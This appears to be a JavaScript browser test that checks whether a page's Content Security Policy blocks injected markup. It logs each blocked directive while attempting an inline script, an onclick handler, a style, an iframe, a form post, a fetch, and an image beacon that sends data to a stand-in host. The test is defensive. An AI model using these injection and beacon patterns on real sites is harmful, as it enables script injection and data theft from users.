// What somebody tries who has slipped markup into a page, past the guard that keeps text from becoming markup. Each try
// that the page's policy blocks is written into `blocked`. Nothing here may run, load or send anything.

window.blocked = [];
addEventListener("securitypolicyviolation", (event) => blocked.push(event.effectiveDirective));

const trusted = trustedTypes.createPolicy("attacker", { createHTML: (text) => text, createScript: (text) => text });
const place = document.body.appendChild(document.createElement("div"));

// A script in the page, a handler in an attribute, a style, an image that tells what it knows, a frame.
const script = document.createElement("script");
script.text = trusted.createScript("document.title = 'taken'");
place.append(script);
place.insertAdjacentHTML("beforeend", trusted.createHTML(`
  <p id="trap" onclick="document.title = 'taken'" style="color: red"></p>
  <img src="https://elsewhere.example/?code">
  <iframe src="https://elsewhere.example/"></iframe>
  <form action="https://elsewhere.example/"></form>
`));
place.querySelector("#trap").click();
place.querySelector("form").submit();
fetch("https://elsewhere.example/").catch(() => {});
